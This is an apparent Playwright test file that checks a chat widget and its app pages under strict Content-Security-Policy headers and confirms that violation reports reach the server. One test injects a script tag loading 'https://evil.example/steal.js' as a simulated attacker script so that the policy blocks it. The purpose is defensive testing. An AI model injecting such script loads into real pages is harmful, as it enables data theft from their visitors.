"""Content-Security-Policy, in a real chromium: the widget works on a host page whose policy
forbids inline styles and scripts, and the app's own pages (store, console, admin) run under
their own strict policy without a single violation."""

import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import host_site, running_daphne
from tests.servers import free_port

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(120)]

# Records every violation the page reports, from the document and from inside shadow roots.
VIOLATIONS = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI);
}, true);
"""

HOST_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>A strict host</title>
</head><body><h1>Shop</h1>
<script src="{chat}/static/chatbot/widget.js" data-title="Help" defer></script></body></html>"""

# What a careful site sends: no inline anything; scripts and sockets from itself and the chat
# server it embeds, as the README tells owners to allow.
HOST_POLICY = (
    "default-src 'none'; script-src 'self' {chat}; style-src 'self'; "
    "connect-src 'self' {chat} {chat_ws}; img-src 'self'; base-uri 'none'; form-action 'none'"
)


@pytest.fixture(scope="module")
def strict_host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Another site (its own port, so its own origin) with a strict policy that embeds the
    widget of a chat server which lists it in CHAT_ALLOWED_ORIGINS."""
    port = free_port()
    origin = f"http://127.0.0.1:{port}"
    tmp: Path = tmp_path_factory.mktemp("csp-chat-server")
    with running_daphne(tmp, CHAT_ALLOWED_ORIGINS=origin) as chat:
        chat_ws = chat.replace("http://", "ws://", 1)
        policy = HOST_POLICY.format(chat=chat, chat_ws=chat_ws)
        body = HOST_PAGE.format(chat=chat)
        with host_site(port, body, {"Content-Security-Policy": policy}) as url:
            yield url


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="en-US")
    context.set_default_timeout(10_000)
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text) if "Content Security" in m.text else None)
    page.console_violations = console  # type: ignore[attr-defined]
    yield page
    context.close()


def _violations(page: Page) -> list[str]:
    return page.evaluate("() => window.__csp") + page.console_violations  # type: ignore[attr-defined]


def test_the_widget_answers_on_a_host_page_with_a_strict_policy(
    page: Page, strict_host: str
) -> None:
    response = page.goto(strict_host)
    assert (
        response is not None and "style-src 'self'" in response.headers["content-security-policy"]
    )
    widget = page.locator("chatbot-widget")
    launcher = widget.locator("button.launcher")
    expect(launcher).to_be_visible()
    assert launcher.evaluate("(e) => getComputedStyle(e).position") == "fixed", "styles applied"
    box = launcher.bounding_box()
    assert box is not None and round(box["width"]) == 60

    launcher.click()
    widget.locator("textarea").fill("How much does shipping cost?")
    widget.locator("textarea").press("Enter")
    answer = widget.locator(".row.bot:not(.welcome) .bubble")
    expect(answer).not_to_have_text("", timeout=15_000)  # the fallback answer: no model here
    expect(widget.locator(".row.bot:not(.welcome) .fb button")).to_have_count(2)
    assert _violations(page) == []


@pytest.mark.parametrize("path", ["/", "/?locale=zh-hans", "/console/login/", "/admin/login/"])
def test_the_apps_own_pages_send_a_strict_policy_and_break_none_of_it(
    page: Page, demo_server: str, path: str
) -> None:
    response = page.goto(demo_server + path)
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "object-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy and "unsafe-eval" not in policy
    page.wait_for_load_state("networkidle")
    if path.startswith("/?") or path == "/":
        page.locator("chatbot-widget").locator("button.launcher").click()
        page.wait_for_function("() => window.__chatbotWidget.state().ready")
    assert _violations(page) == []


def test_chromium_reports_a_violation_to_the_chat_servers_endpoint(
    browser: Browser, tmp_path: Path
) -> None:
    """A script the policy blocks (injected here, as an attacker's would be) is reported by
    chromium to /csp-report/, which keeps it. Chromium prefers `report-to` when the policy has
    it and batches those reports for about a minute (seen by hand: delivered after 60-75 s), so
    the page's policy is given here without it: the `report-uri` path, the one Firefox and
    Safari take, end to end in a few seconds."""
    with running_daphne(tmp_path) as chat:
        context = browser.new_context()
        page = context.new_page()

        def without_report_to(route) -> None:
            response = route.fetch()
            headers = dict(response.headers)
            policy = headers["content-security-policy"]
            assert "report-to csp" in policy and "report-uri /csp-report/" in policy
            headers["content-security-policy"] = policy.replace("report-to csp;", "")
            route.fulfill(response=response, headers=headers)

        page.route("**/console/login/", without_report_to)
        page.goto(chat + "/console/login/")
        page.evaluate(
            """() => { const s = document.createElement("script");
            s.src = "https://evil.example/steal.js"; document.head.appendChild(s); }"""
        )
        rows: list[tuple[str, str, str]] = []
        deadline = time.monotonic() + 20
        while not rows and time.monotonic() < deadline:
            time.sleep(0.25)
            with sqlite3.connect(tmp_path / "db.sqlite3") as db:
                rows = db.execute(
                    "SELECT directive, blocked_uri, document_uri FROM chatbot_cspreport"
                ).fetchall()
        context.close()
    [(directive, blocked, document)] = rows
    assert directive.startswith("script-src") and blocked == "https://evil.example/steal.js"
    assert document == chat + "/console/login/"
